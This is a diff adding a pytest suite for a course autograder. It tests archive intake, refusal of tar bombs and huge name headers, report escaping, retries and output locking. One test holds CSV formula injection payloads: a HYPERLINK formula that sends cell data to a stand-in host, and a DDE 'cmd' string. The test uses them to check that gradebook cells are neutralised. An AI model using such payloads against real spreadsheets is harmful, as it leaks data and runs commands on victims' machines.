@@ -1,0 +1,629 @@
+"""No one submission stops a grading run: every failure is recorded as that submission's
+result, every entry of the submissions folder is accounted for, honest archives are read, and
+every output is safe to open. The grading runs here use a stand-in for the sandbox (the
+orchestration is under test, not the isolation); test_grading.py runs the real one."""
+
+from __future__ import annotations
+
+import contextlib
+import csv
+import errno
+import gzip
+import io
+import json
+import os
+import shutil
+import subprocess
+import sys
+import tarfile
+import threading
+import tracemalloc
+import xml.etree.ElementTree as ET
+import zipfile
+from collections import Counter
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from coursekit import load_lab
+from coursekit.layout import COURSE_ROOT, solution_root
+from grader import GradeOptions, _export, _grade, _sandbox, grade_submissions
+from grader._intake import InvalidSubmission, Submission, lab_modules, survey
+from grader._sandbox._channel import read_lines
+from grader.model import REASON_LIMIT, StageScore, SubmissionResult, TestResult
+from grader.report import gradebook, gradescope, junit, write_class_reports
+from grader.report import write_submission_reports as write_reports
+
+LAB = load_lab("08")
+READ = "src/picourse/coding_tools/read.py"
+SOLVED_READ = (solution_root(LAB.root.name) / READ).read_bytes()
+MiB = 1 << 20
+
+
+def practice(path: Path, read: bytes = SOLVED_READ) -> Path:
+    (path / READ).parent.mkdir(parents=True, exist_ok=True)
+    (path / READ).write_bytes(read)
+    return path
+
+
+def modules_of(submission: Submission, tmp_path: Path) -> dict[str, bytes]:
+    scratch = tmp_path / f"scratch-{submission.student}"
+    scratch.mkdir()
+    return lab_modules(submission, LAB, scratch)
+
+
+@contextlib.contextmanager
+def peak_memory() -> Iterator[list[int]]:
+    """The most Python memory held at once inside the block (filled in when it ends)."""
+    peak: list[int] = []
+    tracemalloc.start()
+    try:
+        yield peak
+        peak.append(tracemalloc.get_traced_memory()[1])
+    finally:
+        tracemalloc.stop()
+
+
+def concatenated_gzip(*parts: bytes, zeros: int = 0) -> bytes:
+    """A gzip stream of ``parts`` then ``zeros`` zero bytes, cheap to build at any size: the
+    zeros are one compressed MiB repeated (gzip allows concatenated members)."""
+    stream = b"".join(gzip.compress(part) for part in parts)
+    block = gzip.compress(bytes(MiB), compresslevel=9)
+    return stream + block * (zeros // MiB)
+
+
+# Intake -------------------------------------------------------------------------------------
+
+
+def test_an_archive_of_dot_is_accepted(tmp_path: Path) -> None:
+    practice(tmp_path / "work")
+    submissions = tmp_path / "subs"
+    submissions.mkdir()
+    tar = shutil.which("tar")
+    assert tar, "the tar command is needed for this test"
+    subprocess.run([tar, "czf", str(submissions / "ada.tar.gz"), "-C", str(tmp_path / "work"), "."],
+                   check=True)  # fmt: skip
+    with tarfile.open(submissions / "ada.tar.gz") as bundle:
+        assert "./" in {m.name.rstrip("/") + "/" for m in bundle if m.isdir()}
+    (submission,), skipped = survey(submissions)
+    assert (submission.student, skipped) == ("ada", [])
+    assert modules_of(submission, tmp_path) == {READ: SOLVED_READ}
+
+
+ARCHIVE_MODES = {".tar": "w:", ".tar.gz": "w:gz", ".tgz": "w:gz", ".tar.xz": "w:xz",
+                 ".tar.bz2": "w:bz2", ".TAR.GZ": "w:gz"}  # fmt: skip
+
+
+@pytest.mark.parametrize("suffix", [*ARCHIVE_MODES, ".zip", ".ZIP"])
+def test_the_usual_archive_types_are_read(tmp_path: Path, suffix: str) -> None:
+    submissions = tmp_path / "subs"
+    submissions.mkdir()
+    archive = submissions / f"ada{suffix}"
+    if suffix.lower() == ".zip":
+        with zipfile.ZipFile(archive, "w") as bundle:
+            bundle.writestr(f"lab08/{READ}", SOLVED_READ)
+    else:
+        with tarfile.open(archive, ARCHIVE_MODES[suffix]) as bundle:  # type: ignore[call-overload]
+            info = tarfile.TarInfo(f"lab08/{READ}")
+            info.size = len(SOLVED_READ)
+            bundle.addfile(info, io.BytesIO(SOLVED_READ))
+    (submission,), skipped = survey(submissions)
+    assert (submission.student, skipped) == ("ada", [])
+    assert modules_of(submission, tmp_path) == {READ: SOLVED_READ}
+
+
+def test_every_entry_of_the_folder_is_accounted_for(tmp_path: Path) -> None:
+    root = tmp_path / "subs"
+    practice(root / "ann")
+    with zipfile.ZipFile(root / "bob.zip", "w") as bundle:
+        bundle.writestr(READ, SOLVED_READ)
+    (root / "gone").symlink_to(tmp_path / "nowhere")
+    (root / "alias").symlink_to(root / "ann")
+    (root / "notes.txt").write_text("x")
+    (root / "carl.7z").write_bytes(b"7z")
+    (root / ".DS_Store").write_bytes(b"")
+    os.mkfifo(root / "pipe")
+    found, skipped = survey(root)
+    assert [s.student for s in found] == ["ann", "bob"]
+    reasons = {s.entry: s.reason for s in skipped}
+    assert len(found) + len(skipped) == len(os.listdir(root)), "no entry goes unmentioned"
+    expected = {
+        "gone": "broken symbolic link",
+        "alias": "symbolic link",
+        "notes.txt": "supported archive",
+        "carl.7z": "supported archive",
+        ".DS_Store": "hidden",
+        "pipe": "neither a folder nor a regular file",
+    }
+    for entry, why in expected.items():
+        assert why in reasons[entry], (entry, reasons)
+
+
+@pytest.mark.parametrize(
+    "entries", [("collide/", "collide.zip", "collide.tar.gz"), ("Ann/", "ann.zip")]
+)
+def test_one_student_with_two_submissions_is_refused_by_name(
+    tmp_path: Path, entries: tuple[str, ...]
+) -> None:
+    root = tmp_path / "subs"
+    root.mkdir()
+    for entry in entries:
+        if entry.endswith("/"):
+            practice(root / entry.rstrip("/"))
+        elif entry.endswith(".zip"):
+            with zipfile.ZipFile(root / entry, "w") as bundle:
+                bundle.writestr(READ, SOLVED_READ)
+        else:
+            with tarfile.open(root / entry, "w:gz") as bundle:
+                bundle.add(practice(tmp_path / "work"), arcname=".")
+    (submission,), skipped = survey(root)
+    assert skipped == []
+    with pytest.raises(InvalidSubmission, match=f"{len(entries)} submissions for one student"):
+        modules_of(submission, tmp_path)
+    for entry in entries:
+        assert entry in submission.refused, "the reason names every entry"
+
+
+def long_header_tar_gz(kind: bytes, claimed: int) -> bytes:
+    header = tarfile.TarInfo("././@LongLink")
+    header.type = kind
+    header.size = claimed
+    return concatenated_gzip(header.tobuf(tarfile.USTAR_FORMAT), zeros=claimed)
+
+
+@pytest.mark.parametrize("kind", [tarfile.GNUTYPE_LONGNAME, tarfile.XHDTYPE])
+def test_a_huge_name_header_is_refused_without_reading_it(tmp_path: Path, kind: bytes) -> None:
+    root = tmp_path / "subs"
+    root.mkdir()
+    (root / "mallory.tar.gz").write_bytes(long_header_tar_gz(kind, 1 << 30))
+    assert (root / "mallory.tar.gz").stat().st_size < 2 * MiB, "a small archive"
+    (submission,), _ = survey(root)
+    with peak_memory() as peak, pytest.raises(InvalidSubmission, match="name header"):
+        modules_of(submission, tmp_path)
+    assert peak[0] < 16 * MiB, f"{peak[0]} bytes held to refuse a 1 GiB header"
+
+
+def test_a_tar_bomb_is_refused_before_its_content_is_read(tmp_path: Path) -> None:
+    member = tarfile.TarInfo(f"lab08/{READ}")
+    member.size = 300 * MiB
+    root = tmp_path / "subs"
+    root.mkdir()
+    (root / "bomb.tgz").write_bytes(
+        concatenated_gzip(member.tobuf(tarfile.GNU_FORMAT), zeros=300 * MiB)
+    )
+    (submission,), _ = survey(root)
+    with peak_memory() as peak, pytest.raises(InvalidSubmission, match="unpacks to more than"):
+        modules_of(submission, tmp_path)
+    assert peak[0] < 16 * MiB
+    assert not list((tmp_path / "scratch-bomb").rglob("*.py")), "nothing half-written is used"
+
+
+def sparse(path: Path, size: int = 4 << 30) -> None:
+    """A file of ``size`` bytes that takes no disk."""
+    with open(path, "wb") as handle:
+        handle.truncate(size)
+
+
+def test_a_huge_file_in_a_directory_submission_is_never_read_whole(tmp_path: Path) -> None:
+    student = practice(tmp_path / "subs" / "ann")
+    package = (student / READ).parent
+    for huge in (student / "dataset.bin", package / "weights.bin", package / "big.py"):
+        sparse(huge)
+    (submission,), _ = survey(tmp_path / "subs")
+    with peak_memory() as peak:
+        first = submission.digest()
+        modules = modules_of(submission, tmp_path)
+    assert peak[0] < 16 * MiB, f"{peak[0]} bytes held to digest 12 GiB of files"
+    assert modules == {READ: SOLVED_READ}
+    (student / READ).write_bytes(SOLVED_READ + b"\n# changed\n")
+    assert submission.digest() != first, "the digest still sees a module change"
+    sparse(student / READ)
+    with pytest.raises(InvalidSubmission, match=r"read\.py is larger than"):
+        lab_modules(submission, LAB, tmp_path)
+
+
+UNREADABLE_CHECK = """
+import json, sys
+from pathlib import Path
+from coursekit import load_lab
+from grader._intake import InvalidSubmission, survey, lab_modules
+
+found, skipped = survey(Path(sys.argv[1]))
+reasons = {}
+for submission in found:
+    try:
+        submission.digest()
+        lab_modules(submission, load_lab("08"), Path(sys.argv[2]) / submission.student)
+        reasons[submission.student] = "read"
+    except InvalidSubmission as error:
+        reasons[submission.student] = str(error)
+print(json.dumps(reasons))
+"""
+
+
+def without_root_reads() -> list[str]:
+    """Root reads every file regardless of its mode: run without that capability."""
+    if os.geteuid() != 0:
+        return []
+    setpriv = shutil.which("setpriv")
+    assert setpriv, "setpriv (util-linux) is needed to test unreadable files as root"
+    return [setpriv, "--bounding-set", "-dac_override,-dac_read_search"]
+
+
+@pytest.fixture
+def unreadable_submissions(tmp_path: Path) -> Iterator[Path]:
+    root = tmp_path / "subs"
+    locked_module = practice(root / "locked-module") / READ
+    locked_folder = practice(root / "locked-folder") / "src" / "picourse"
+    locked_notes = practice(root / "locked-notes") / "notes.txt"
+    locked_notes.write_text("mine")
+    locked = [locked_module, locked_folder, locked_notes]
+    for path in locked:
+        path.chmod(0)
+    yield root
+    for path in locked:
+        path.chmod(0o755)
+
+
+def test_an_unreadable_file_or_folder_makes_the_submission_invalid(
+    unreadable_submissions: Path, tmp_path: Path
+) -> None:
+    scratch = tmp_path / "scratch"
+    for name in ("locked-module", "locked-folder", "locked-notes"):
+        (scratch / name).mkdir(parents=True)
+    run = subprocess.run(
+        [*without_root_reads(), sys.executable, "-c", UNREADABLE_CHECK,
+         str(unreadable_submissions), str(scratch)],
+        cwd=COURSE_ROOT, capture_output=True, text=True, check=False, timeout=120,
+    )  # fmt: skip
+    assert run.returncode == 0, run.stderr
+    reasons = json.loads(run.stdout)
+    assert set(reasons) == {"locked-module", "locked-folder", "locked-notes"}
+    for student, reason in reasons.items():
+        assert "cannot read" in reason and "ermission denied" in reason, (student, reason)
+    assert "notes.txt" in reasons["locked-notes"], "the reason names the file"
+
+
+# Results and reports ------------------------------------------------------------------------
+
+
+def result_with(reason: str, message: str, student: str = "ann") -> SubmissionResult:
+    tests = [
+        TestResult("tests/test_lab8_1_read.py::test_a", "8.1", False, "failed", message, 0, 60),
+        TestResult("tests/test_lab8_1_read.py::test_b", "8.1", False, "passed", "", 40, 40),
+        TestResult("tests/test_lab8_1_read.py::test_big", "8.1", True, "passed", "", 1, 1),
+        TestResult("tests/test_lab8_7_ls.py::test_ls", "8.7", False, "passed", "", 10, 10),
+    ]
+    stages = [StageScore("8.1", "read", 40, 100, False), StageScore("8.7", "ls", 10, 10, True)]
+    return SubmissionResult(student, "crashed", reason, "rlimits", stages, tests, 11, 11)
+
+
+def test_a_lone_surrogate_never_breaks_a_result_or_a_report(tmp_path: Path) -> None:
+    result = result_with("OSError: bad name b'\\xff' -> \udcff", "AssertionError: \ud800 half")
+    out = tmp_path / "out"
+    write_reports(out / "submissions" / "ann", result)
+    write_class_reports(out, LAB, [result])
+    written = [p for p in out.rglob("*") if p.is_file()]
+    assert len(written) == 6
+    for path in written:
+        path.read_bytes().decode("utf-8")  # every file is valid UTF-8
+    stored = json.loads((out / "submissions/ann/result.json").read_text(encoding="utf-8"))
+    assert "\\udcff" in stored["reason"], "the undecodable byte stays visible"
+    ET.fromstring((out / "submissions/ann/junit.xml").read_bytes())
+
+
+def test_reasons_and_messages_are_truncated() -> None:
+    result = result_with("x" * (10 * MiB), "y" * (10 * MiB))
+    assert len(result.reason) < REASON_LIMIT + 100 and result.reason.endswith("characters]")
+    result.reason = "z" * MiB  # also when set later
+    assert len(result.reason) < REASON_LIMIT + 100
+    assert len(result.tests[0].message) < 5000
+    assert len(result.to_json()) < 20_000
+
+
+def test_junit_is_well_formed_whatever_the_failure_says() -> None:
+    message = "AssertionError: \x1b[31mred\x1b[0m \x00\x07\x0c\x7f end\ufffe"
+    tree = ET.fromstring(junit.render(result_with("", message)).encode())
+    failure = tree.find(".//failure")
+    assert failure is not None and failure.text is not None
+    assert "\\x1b[31mred" in failure.text and "\\x00\\x07\\x0c" in failure.text
+    assert failure.text.endswith("end\\ufffe")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_gradebook_cell_starts_a_formula(start: str) -> None:
+    evil = f'{start}HYPERLINK("http://x.example/?"&A1,"open")'
+    text = gradebook.render(LAB, [result_with(evil, "", student=f"{start}cmd|' /C calc'!A0")])
+    (row,) = list(csv.DictReader(io.StringIO(text)))
+    shown = start.replace("\r", "\n")  # a bare CR would end the row in some readers
+    assert row["student"] == f"'{shown}cmd|' /C calc'!A0"
+    assert row["reason"] == f"'{shown}{evil[1:]}"
+    assert row["total"] == "40" and row["bonus"] == "11", "numbers stay numbers"
+
+
+def test_the_gradescope_total_keeps_the_extra_credit() -> None:
+    result = result_with("", "failed")
+    data = json.loads(gradescope.render(result))
+    assert "score" not in data, "a top-level score would override the tests' total"
+    total = sum(test["score"] for test in data["tests"])
+    assert total == pytest.approx(result.score + result.bonus) == 51
+    bonus_tests = [t for t in data["tests"] if t["max_score"] == 0]
+    assert sum(t["score"] for t in bonus_tests) == result.bonus, "bonus tests are extra credit"
+
+
+# The channel ---------------------------------------------------------------------------------
+
+
+def test_a_channel_flooded_without_newlines_costs_bounded_memory() -> None:
+    read_end, write_end = os.pipe()
+
+    def flood() -> None:
+        with os.fdopen(write_end, "wb") as pipe:
+            for _ in range(48):
+                pipe.write(b"x" * MiB)
+            pipe.write(b"\nnext record\n")
+
+    writer = threading.Thread(target=flood)
+    lines: list[bytes] = []
+    try:
+        with peak_memory() as peak:
+            writer.start()
+            read_lines(read_end, lines)
+    finally:
+        writer.join()
+        os.close(read_end)
+    assert lines == [b"", b"next record"], "the flood is one dropped record, the next intact"
+    assert peak[0] < 8 * MiB, f"{peak[0]} bytes held for a 48 MiB line"
+
+
+# Orchestration ------------------------------------------------------------------------------
+
+
+def test_the_static_scan_never_runs_in_two_threads_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
+    # CPython gh-106905: two threads in ast.parse can crash the interpreter.
+    both_inside = threading.Barrier(2, timeout=5)
+    met: list[bool] = []
+
+    def scan(modules: dict[str, bytes]) -> list[str]:
+        try:
+            both_inside.wait()
+            met.append(True)
+        except threading.BrokenBarrierError:
+            met.append(False)
+        return []
+
+    monkeypatch.setattr(_grade, "suspicious", scan)
+    threads = [threading.Thread(target=_grade._scan, args=({},)) for _ in range(2)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    assert met == [False, False], "the second scan began before the first ended"
+
+
+class FakeSandbox:
+    """Stands in for ``_sandbox.run_tests``: what it does depends on a word in read.py."""
+
+    def __init__(self) -> None:
+        self.calls: Counter[str] = Counter()
+        self.paths: list[str] = []
+        self._lock = threading.Lock()
+
+    def __call__(self, workdir: Path, scratch: Path, *args: Any, **kwargs: Any) -> Any:
+        behaviour = (workdir / READ).read_text().split()[-1]
+        with self._lock:
+            self.calls[behaviour] += 1
+            self.paths += [str(workdir), str(scratch)]
+            attempt = self.calls[behaviour]
+        if behaviour == "flaky" and attempt == 1:
+            raise OSError(errno.EAGAIN, "Resource temporarily unavailable")
+        if behaviour == "broken":
+            raise RuntimeError("sandbox exploded on \udcff")
+        outcome = _sandbox.RunOutcome(isolation="fake")
+        if behaviour == "never-started":
+            outcome.exit_code = 1
+            outcome.output_tail = "bwrap: Creating new namespace failed"
+            return outcome
+        outcome.records = [{"type": "start"}, {"type": "end", "exitstatus": 1}]
+        outcome.exit_code = 1
+        return outcome
+
+
+@pytest.fixture
+def sandbox(monkeypatch: pytest.MonkeyPatch) -> FakeSandbox:
+    fake = FakeSandbox()
+    monkeypatch.setattr(_sandbox, "run_tests", fake)
+    return fake
+
+
+def student(root: Path, name: str, behaviour: str = "ok") -> Path:
+    return practice(root / name, f"# behaves: {behaviour}\n".encode())
+
+
+def statuses(out: Path) -> dict[str, tuple[str, str]]:
+    rows = csv.DictReader(io.StringIO((out / "gradebook.csv").read_text(encoding="utf-8")))
+    return {row["student"]: (row["status"], row["reason"]) for row in rows}
+
+
+@pytest.mark.slow
+def test_grader_failures_are_errors_tried_twice_and_graded_again_next_run(
+    tmp_path: Path, sandbox: FakeSandbox
+) -> None:
+    subs, out = tmp_path / "subs", tmp_path / "out"
+    for name, behaviour in [("ann:lee", "ok"), ("ben", "flaky"), ("cy", "broken"),
+                            ("dee", "never-started")]:  # fmt: skip
+        student(subs, name, behaviour)
+    grade_submissions(subs, out, GradeOptions(jobs=2))
+    book = statuses(out)
+    expected = {"ann:lee": "graded", "ben": "graded", "cy": "error", "dee": "error"}
+    assert {name: status for name, (status, _) in book.items()} == expected
+    assert sandbox.calls == {"ok": 1, "flaky": 2, "broken": 2, "never-started": 2}
+    assert "the grader failed twice, not the student" in book["cy"][1]
+    assert "\\udcff" in book["cy"][1] and "bwrap: Creating" in book["dee"][1]
+    assert not any("ann" in path or ":" in path for path in sandbox.paths), sandbox.paths
+    grade_submissions(subs, out, GradeOptions(jobs=2))
+    assert sandbox.calls == {"ok": 1, "flaky": 2, "broken": 4, "never-started": 4}, (
+        "a rerun grades the errors again, and only them"
+    )
+
+
+@pytest.mark.slow
+def test_bad_submissions_are_recorded_and_the_run_finishes(
+    tmp_path: Path, sandbox: FakeSandbox
+) -> None:
+    subs, out = tmp_path / "subs", tmp_path / "out"
+    student(subs, "ok")
+    student(subs, "collide")
+    with zipfile.ZipFile(subs / "collide.zip", "w") as bundle:
+        bundle.writestr(READ, b"# behaves: ok\n")
+    (subs / "mallory.tar.gz").write_bytes(long_header_tar_gz(tarfile.GNUTYPE_LONGNAME, 1 << 30))
+    (subs / "gone").symlink_to(tmp_path / "nowhere")
+    sparse(student(subs, "huge") / "dataset.bin")
+    with tarfile.open(subs / "dot.tar.gz", "w:gz") as bundle:
+        bundle.add(student(tmp_path / "work", "dot"), arcname=".")
+    leftover = out / "submissions" / ".staging-from-a-killed-run"
+    leftover.mkdir(parents=True)
+    grade_submissions(subs, out, GradeOptions(jobs=2))
+    book = statuses(out)
+    invalid = {"collide", "mallory"}  # the rest is graded, the huge data file notwithstanding
+    assert {name for name, (status, _) in book.items() if status == "invalid"} == invalid
+    assert {name for name, (status, _) in book.items() if status == "graded"} == {
+        "dot", "huge", "ok"
+    }  # fmt: skip
+    assert "2 submissions for one student" in book["collide"][1]
+    assert "name header" in book["mallory"][1]
+    report = (out / "report.html").read_text(encoding="utf-8")
+    assert "Not graded" in report and "broken symbolic link" in report
+    assert sorted(p.name for p in (out / "submissions").iterdir()) == sorted(book)
+
+
+@pytest.mark.slow
+def test_grading_late_submissions_into_the_same_out_keeps_the_class(
+    tmp_path: Path, sandbox: FakeSandbox
+) -> None:
+    out = tmp_path / "out"
+    for name in ("ann", "ben"):
+        student(tmp_path / "on-time", name)
+    grade_submissions(tmp_path / "on-time", out, GradeOptions(jobs=2))
+    student(tmp_path / "late", "cy")
+    results = grade_submissions(tmp_path / "late", out, GradeOptions(jobs=2))
+    assert sorted(r.student for r in results) == ["ann", "ben", "cy"]
+    assert sorted(statuses(out)) == ["ann", "ben", "cy"]
+    report = (out / "report.html").read_text(encoding="utf-8")
+    assert all(f"id='{name}'" in report for name in ("ann", "ben", "cy"))
+    assert sandbox.calls == {"ok": 3}
+
+
+def test_a_second_grader_on_the_same_out_refuses_and_touches_nothing(tmp_path: Path) -> None:
+    student(tmp_path / "subs", "ann")
+    out = tmp_path / "out"
+    staging = out / "submissions" / ".staging-of-the-first-grader"
+    staging.mkdir(parents=True)
+    with _grade._holding(out):
+        with pytest.raises(_grade.OutputBusy, match="in use by another grader"):
+            grade_submissions(tmp_path / "subs", out, GradeOptions(jobs=1))
+        command = [sys.executable, "-m", "grader", "grade", str(tmp_path / "subs"),
+                   "--out", str(out)]  # fmt: skip
+        cli = subprocess.run(
+            command, cwd=COURSE_ROOT, capture_output=True, text=True, check=False, timeout=120
+        )
+    message = " ".join(cli.stderr.split())
+    assert cli.returncode == 2 and "in use by another grader" in message
+    assert f"pid {os.getpid()}" in message, "the message names the grader holding OUT"
+    assert staging.is_dir(), "the first grader's staging is left alone"
+    assert not (out / "gradebook.csv").exists()
+
+
+# The Gradescope image -----------------------------------------------------------------------
+
+FAKE_PYTHON = """#!/bin/sh
+# Stands for an interpreter that reports Python {version}.
+case "$1" in
+  -c) exec {real} -c 'import sys; sys.version_info = ({major}, {minor}, 0, "final", 0); \
+exec(sys.argv[1])' "$2" ;;
+  --version) echo "Python {major}.{minor}.0" ;;
+  -m) echo "${{0##*/}} $*" >> "$LOG"
+      /bin/mkdir -p "$3/bin"
+      printf '#!/bin/sh\\necho "pip $*" >> "$LOG"\\n' > "$3/bin/pip"
+      /bin/chmod +x "$3/bin/pip" ;;
+esac
+"""
+
+FAKE_APT = """#!/bin/sh
+echo "${0##*/} $*" >> "$LOG"
+case "$*" in
+  *"install -y python3.12 python3.12-venv"*)
+    [ -n "$PPA_WORKS" ] && /bin/cp "$FAKE_312" "${0%/*}/python3.12" ;;
+esac
+exit 0
+"""
+
+
+def fake_python(path: Path, major: int, minor: int) -> Path:
+    path.write_text(
+        FAKE_PYTHON.format(
+            version=f"{major}.{minor}", real=sys.executable, major=major, minor=minor
+        )
+    )
+    path.chmod(0o755)
+    return path
+
+
+def run_setup(tmp_path: Path, system_minor: int, ppa_works: bool = True) -> tuple[int, str, str]:
+    bundle = _export.build_gradescope_bundle(tmp_path / "autograder.zip")
+    root = tmp_path / "autograder"
+    with zipfile.ZipFile(bundle) as archive:
+        archive.extract("setup.sh", root)
+    path = tmp_path / "bin"  # the only directory on PATH: no interpreter of this machine
+    path.mkdir()
+    fake_python(path / "python3", 3, system_minor)
+    fake_312 = fake_python(tmp_path / "python3.12", 3, 12)
+    for tool in ("apt-get", "add-apt-repository"):
+        (path / tool).write_text(FAKE_APT)
+        (path / tool).chmod(0o755)
+    log = tmp_path / "log"
+    log.touch()
+    env = {
+        "PATH": str(path),
+        "LOG": str(log),
+        "FAKE_312": str(fake_312),
+        "PPA_WORKS": "1" if ppa_works else "",
+        "GRADER_AUTOGRADER_ROOT": str(root),
+    }
+    bash = shutil.which("bash")
+    assert bash
+    run = subprocess.run(
+        [bash, str(root / "setup.sh")], env=env, capture_output=True, text=True, timeout=60
+    )
+    return run.returncode, log.read_text(), run.stderr
+
+
+def test_setup_sh_gets_python_3_12_where_python3_is_3_10(tmp_path: Path) -> None:
+    code, log, stderr = run_setup(tmp_path, system_minor=10)
+    assert code == 0, stderr
+    root = tmp_path / "autograder"
+    assert log.splitlines()[-5:] == [
+        "add-apt-repository -y ppa:deadsnakes/ppa",
+        "apt-get update",
+        "apt-get install -y python3.12 python3.12-venv",
+        f"python3.12 -m venv {root}/venv",
+        f"pip install {root}/source",
+    ]
+    assert "bubblewrap" in log.splitlines()[1]
+
+
+def test_setup_sh_uses_the_system_python_where_it_is_recent(tmp_path: Path) -> None:
+    code, log, stderr = run_setup(tmp_path, system_minor=12)
+    assert code == 0, stderr
+    root = tmp_path / "autograder"
+    assert "deadsnakes" not in log
+    assert log.splitlines()[-2:] == [f"python3 -m venv {root}/venv", f"pip install {root}/source"]
+
+
+def test_setup_sh_stops_with_a_clear_message_when_no_recent_python_comes(tmp_path: Path) -> None:
+    code, log, stderr = run_setup(tmp_path, system_minor=10, ppa_works=False)
+    assert code != 0
+    assert "no Python >= 3.11" in stderr
+    assert " -m venv" not in log, "no venv is built on an interpreter that is too old"
